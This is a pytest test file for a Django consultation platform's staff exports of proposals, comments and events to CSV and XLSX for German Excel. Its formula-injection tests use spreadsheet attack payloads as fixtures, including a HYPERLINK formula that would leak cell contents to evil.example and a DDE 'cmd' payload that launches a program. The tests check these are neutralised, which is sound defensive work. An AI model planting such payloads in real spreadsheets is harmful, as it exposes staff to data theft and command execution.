"""Staff exports of proposals, comments and events: for German Excel (CSV: UTF-8 with BOM, semicolons, formula
injection neutralised; XLSX: real strings and local date-times), queries independent of rows."""

import csv
import io

import openpyxl
import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from consultation.models import Channel, ResponseState
from tests.consultation.factories import (
    AnalogTallyFactory,
    CommentFactory,
    EventFactory,
    ProposalFactory,
    ResponseFactory,
    VoteFactory,
)

DANGEROUS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klick")', "+1", "-2", "@SUM(A1:A9)"]
EXPORTS = ["vorschlaege", "kommentare", "veranstaltungen"]
FORMATS = ["csv", "xlsx"]


def download(client, name: str, fmt: str, **params):
    response = client.get(reverse("consultation-exports:download", args=[name, fmt]), params)
    assert response.status_code == 200, response
    return response, b"".join(response.streaming_content)


def rows(content: bytes, fmt: str) -> list[list]:
    if fmt == "csv":
        assert content.startswith(b"\xef\xbb\xbf")  # the BOM: German Excel reads the file as UTF-8
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [["" if value is None else value for value in row] for row in sheet.iter_rows(values_only=True)]


def shown(text: str, fmt: str) -> str:
    """A formula-like text as the export writes it: with an apostrophe in CSV, as it is in XLSX (never a formula)."""
    return "'" + text if fmt == "csv" else text


def as_dicts(content: bytes, fmt: str) -> list[dict]:
    header, *body = rows(content, fmt)
    return [dict(zip(header, row, strict=True)) for row in body]


# --- Formula injection -------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_proposal_titles_that_look_like_formulas_are_neutralised(staff, consultation, fmt):
    for title in DANGEROUS:
        ProposalFactory(consultation=consultation, title=title)

    _response, content = download(staff, "vorschlaege", fmt)

    titles = sorted(row["Titel"] for row in as_dicts(content, fmt))
    assert titles == sorted(shown(title, fmt) for title in DANGEROUS)


def test_no_xlsx_cell_is_stored_as_a_formula(staff, consultation):
    for title in DANGEROUS:
        ProposalFactory(consultation=consultation, title=title, text=title)

    _response, content = download(staff, "vorschlaege", "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert not [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


@pytest.mark.parametrize("fmt", FORMATS)
def test_comments_and_events_are_neutralised_too(staff, consultation, fmt):
    proposal = ProposalFactory(consultation=consultation)
    CommentFactory(proposal=proposal, text="=1+1")
    EventFactory(consultation=consultation, title="@Workshop", place="-Keller")

    _response, comments = download(staff, "kommentare", fmt)
    _response, events = download(staff, "veranstaltungen", fmt)

    assert as_dicts(comments, fmt)[0]["Kommentar"] == shown("=1+1", fmt)
    event = as_dicts(events, fmt)[0]
    assert (event["Titel"], event["Ort"]) == (shown("@Workshop", fmt), shown("-Keller", fmt))


@pytest.mark.parametrize("fmt", FORMATS)
def test_wagtails_own_list_export_of_the_proposal_list_is_neutralised(staff, consultation, fmt):
    ProposalFactory(consultation=consultation, title="=cmd|' /C calc'!A0")

    response = staff.get(reverse("consultation-proposals:index"), {"export": fmt})
    content = b"".join(response.streaming_content)

    assert shown("=cmd|' /C calc'!A0", fmt) in [row[1] for row in rows(content, fmt)[1:]]


# --- What the exports contain ------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", FORMATS)
def test_the_proposal_export_has_origin_votes_comments_and_response(staff, consultation, district, fmt):
    workshop = EventFactory(consultation=consultation, title="Workshop Ankommen")
    proposal = ProposalFactory(
        consultation=consultation, analog=True, channel=Channel.EVENT, event=workshop, district=district, title="Bänke"
    )
    VoteFactory(proposal=proposal)
    AnalogTallyFactory(proposal=proposal, event=workshop, count=7)
    CommentFactory(proposal=proposal)
    ResponseFactory(proposal=proposal, state=ResponseState.NOT_ADOPTED, text="Kein Platz.", department="FB Tiefbau")

    _response, content = download(staff, "vorschlaege", fmt)

    (row,) = as_dicts(content, fmt)
    assert row["Nummer"] == proposal.reference
    assert row["Stadtbezirk"] == "Linden-Limmer"
    assert row["Weg"] == "Veranstaltung / Workshop"
    assert row["Veranstaltung"].startswith("Workshop Ankommen")
    assert str(row["Stimmen online"]) == "1" and str(row["Stimmen analog"]) == "7"
    assert str(row["Kommentare"]) == "1"
    assert (row["Antwort: Stand"], row["Antwort: Begründung"]) == ("nicht übernommen", "Kein Platz.")


@pytest.mark.parametrize("fmt", FORMATS)
def test_comments_carry_their_proposals_reference(staff, consultation, fmt):
    proposal = ProposalFactory(consultation=consultation)
    CommentFactory(proposal=proposal, text="Gute Idee")

    _response, content = download(staff, "kommentare", fmt)

    (row,) = as_dicts(content, fmt)
    assert (row["Vorschlag (Nummer)"], row["Kommentar"]) == (proposal.reference, "Gute Idee")


def test_the_event_export_counts_proposals_and_analog_votes(staff, consultation):
    workshop = EventFactory(consultation=consultation)
    for count in (3, 4):
        proposal = ProposalFactory(consultation=consultation, analog=True, channel=Channel.EVENT, event=workshop)
        AnalogTallyFactory(proposal=proposal, event=workshop, count=count)

    _response, content = download(staff, "veranstaltungen", "csv")

    (row,) = as_dicts(content, "csv")
    assert (row["Vorschläge"], row["Stimmen analog"]) == ("2", "7")


def test_an_export_can_be_limited_to_one_consultation(staff, consultation, other_consultation):
    ProposalFactory(consultation=consultation, title="Hier")
    ProposalFactory(consultation=other_consultation, title="Dort")

    _response, content = download(staff, "vorschlaege", "csv", consultation=consultation.pk)

    assert [row["Titel"] for row in as_dicts(content, "csv")] == ["Hier"]


def test_files_are_downloads_with_a_dated_name(staff, db):
    response, _content = download(staff, "vorschlaege", "xlsx")

    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'attachment; filename="lip-vorschlaege-' in response["Content-Disposition"]


@pytest.mark.parametrize(
    ("name", "fmt", "params"),
    [("geheim", "csv", {}), ("vorschlaege", "pdf", {}), ("vorschlaege", "csv", {"consultation": "x"})],
)
def test_unknown_exports_formats_and_consultations_are_not_found(staff, db, name, fmt, params):
    url = reverse("consultation-exports:download", args=[name, fmt])

    assert staff.get(url, params).status_code == 404


def test_the_export_page_offers_both_formats_of_every_export(staff, consultation):
    html = staff.get(reverse("consultation-exports:index")).content.decode()

    for name in EXPORTS:
        for fmt in FORMATS:
            assert reverse("consultation-exports:download", args=[name, fmt]) in html


# --- Query budget ------------------------------------------------------------------------------------------------


def build(consultation, n: int) -> None:
    """n proposals with everything an export reads: event, tally, vote, comment, response, tags."""
    workshop = EventFactory(consultation=consultation)
    for i in range(n):
        proposal = ProposalFactory(
            consultation=consultation, analog=True, channel=Channel.EVENT, event=workshop, tags=["Kita", f"t{i}"]
        )
        AnalogTallyFactory(proposal=proposal, event=workshop, count=2)
        VoteFactory(proposal=proposal)
        CommentFactory(proposal=proposal)
        ResponseFactory(proposal=proposal)


def queries_for(client, name: str, fmt: str) -> int:
    with CaptureQueriesContext(connection) as ctx:
        download(client, name, fmt)
    return len(ctx.captured_queries)


EXPORT_BUDGET = 8  # session, user, permission checks and the export's own reads (at most 3)


@pytest.mark.parametrize("name", EXPORTS)
def test_an_export_costs_the_same_queries_for_5_and_50_proposals(staff, make_consultation, name):
    few, many = make_consultation(), make_consultation()
    build(few, 5)
    queries_for(staff, name, "csv")  # warm up the session and the site's caches

    small = {fmt: queries_for(staff, name, fmt) for fmt in FORMATS}
    build(many, 45)
    large = {fmt: queries_for(staff, name, fmt) for fmt in FORMATS}

    assert small == large
    assert max(large.values()) <= EXPORT_BUDGET


def test_the_response_list_export_is_neutralised_and_in_local_time(staff, consultation, clock):
    ResponseFactory(
        proposal=ProposalFactory(consultation=consultation), department="=Fachbereich", published_at=clock.now
    )

    response = staff.get(reverse("consultation-responses:index"), {"export": "csv"})
    (row,) = as_dicts(b"".join(response.streaming_content), "csv")

    assert row["Zuständige Stelle"] == "'=Fachbereich"
    assert row["Veröffentlicht am"].startswith(clock.now.strftime("%Y-%m-%d %H:%M"))  # Berlin time, not UTC


# --- German Excel and LibreOffice --------------------------------------------------------------------------------


def test_csv_is_utf8_with_bom_and_semicolons(staff, consultation):
    ProposalFactory(consultation=consultation, title="Grünflächen; Bänke, Straßen")

    response, content = download(staff, "vorschlaege", "csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert content.startswith(b"\xef\xbb\xbfNummer;Titel;")
    assert '"Grünflächen; Bänke, Straßen"'.encode() in content
    (row,) = as_dicts(content, "csv")
    assert row["Titel"] == "Grünflächen; Bänke, Straßen"


@pytest.mark.parametrize("fmt", FORMATS)
def test_timestamps_are_local_without_microseconds(staff, consultation, fmt):
    from datetime import datetime
    from zoneinfo import ZoneInfo

    moment = datetime(2026, 7, 1, 10, 15, 30, 123456, tzinfo=ZoneInfo("UTC"))
    proposal = ProposalFactory(consultation=consultation)
    type(proposal).objects.filter(pk=proposal.pk).update(created_at=moment)

    _response, content = download(staff, "vorschlaege", fmt)

    value = as_dicts(content, fmt)[0]["eingereicht am"]
    if fmt == "csv":
        assert value == "2026-07-01 12:15:30"  # Berlin summer time
    else:
        assert value == datetime(2026, 7, 1, 12, 15, 30)  # a real, naive date-time cell


@pytest.mark.parametrize("fmt", FORMATS)
def test_control_characters_in_stored_text_do_not_break_the_export(staff, consultation, fmt):
    proposal = ProposalFactory(consultation=consultation)
    type(proposal).objects.filter(pk=proposal.pk).update(title="Esc\x1b und\x0bZeile", text="Glocke\x07")
    CommentFactory(proposal=proposal, text="Kommentar\x1b\x0bmit Steuerzeichen")

    _response, proposals = download(staff, "vorschlaege", fmt)
    _response, comments = download(staff, "kommentare", fmt)

    row = as_dicts(proposals, fmt)[0]
    assert (row["Titel"], row["Beschreibung"]) == ("Esc und\nZeile", "Glocke")
    assert as_dicts(comments, fmt)[0]["Kommentar"] == "Kommentar\nmit Steuerzeichen"


def test_xlsx_numbers_stay_numbers(staff, consultation):
    proposal = ProposalFactory(consultation=consultation)
    VoteFactory(proposal=proposal)

    _response, content = download(staff, "vorschlaege", "xlsx")

    assert as_dicts(content, "xlsx")[0]["Stimmen online"] in (0, 1)
